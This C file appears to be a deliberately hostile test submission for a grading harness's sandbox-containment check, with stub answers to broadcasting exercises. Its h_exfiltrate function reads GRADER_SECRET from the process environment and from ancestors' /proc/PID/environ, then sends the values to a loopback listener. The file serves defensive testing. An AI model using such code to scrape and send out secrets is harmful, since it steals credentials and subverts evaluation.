/*
 * HOSTILE SUBMISSION exfil-tcp (graded by tests/grading/test_hostile.sh; deserves 0 points).
 * Attacks: the network. In every call of 1.2 it connects to 127.0.0.1, ports 47231-47235 (where
 * the checker listens), and sends what it found of the grader's environment: GRADER_SECRET
 * from its own environ, and from its ancestors' /proc/PID/environ, with the number of entries
 * (only that variable's value is sent, never the rest of the environment).
 * Contained: the listener records no connection; the submission scores 0.
 */
#include HOSTILE_TOOLKIT /* tests/grading/hostile/toolkit.c, put here by test_hostile.sh */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

extern char **environ;

/* GRADER_SECRET's value in an environment block of NUL-separated entries */
static const char *h_secret_in(const char *env, long n) {
    for (long i = 0; i < n; i += (long)strlen(env + i) + 1)
        if (!strncmp(env + i, "GRADER_SECRET=", 14)) return env + i + 14;
    return NULL;
}

static void h_exfiltrate(void) {
    static char payload[H_BIG], env[H_BIG];
    size_t used = 0;
    int count = 0;
    for (char **e = environ; *e; e++) count++;
    const char *mine = getenv("GRADER_SECRET");
    used += (size_t)snprintf(payload + used, sizeof payload - used, "hostile-marker-exfil pid %d: %d variables, GRADER_SECRET=%s\n",
                             (int)getpid(), count, mine ? mine : "(unset)");
    int pids[32], n = h_ancestors(pids, 32);
    for (int i = 0; i < n && used < sizeof payload; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", pids[i]);
        long len = h_read(path, env, sizeof env);
        const char *secret = len > 0 ? h_secret_in(env, len) : NULL;
        if (secret) used += (size_t)snprintf(payload + used, sizeof payload - used, "ancestor %d: GRADER_SECRET=%s\n", pids[i], secret);
    }
    for (int port = 47231; port <= 47235; port++) {
        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (s < 0) return;
        struct sockaddr_in to = {0};
        to.sin_family = AF_INET;
        to.sin_port = htons((uint16_t)port);
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) {
            ssize_t sent = write(s, payload, strlen(payload));
            (void)sent;
        }
        close(s);
    }
}

void ex1_1_broadcast_by_hand(BroadcastByHand *answer) { memset(answer, 0, sizeof *answer); }

int ex1_2_broadcast_shapes(const int64_t *a, int a_rank, const int64_t *b, int b_rank, int64_t *out, int *out_rank) {
    (void)a, (void)a_rank, (void)b, (void)b_rank, (void)out, (void)out_rank;
    h_exfiltrate();
    return -2;
}
int ex1_3_broadcast_strides(const int64_t *src, int src_rank, const int64_t *src_strides, const int64_t *target,
                            int target_rank, int64_t *out_strides) {
    (void)src, (void)src_rank, (void)src_strides, (void)target, (void)target_rank, (void)out_strides;
    return -2;
}
void ex1_4_broadcast_map(const int64_t *target, int target_rank, const int64_t *src, int src_rank, int64_t *map) {
    (void)target, (void)target_rank, (void)src, (void)src_rank, (void)map; /* map left as it came */
}
void ex1_5_sum_to_shape(const float *grad, const int64_t *shape, int rank, float *out, const int64_t *out_shape,
                        int out_rank) {
    (void)grad, (void)shape, (void)rank, (void)out, (void)out_shape, (void)out_rank; /* out left as it came */
}
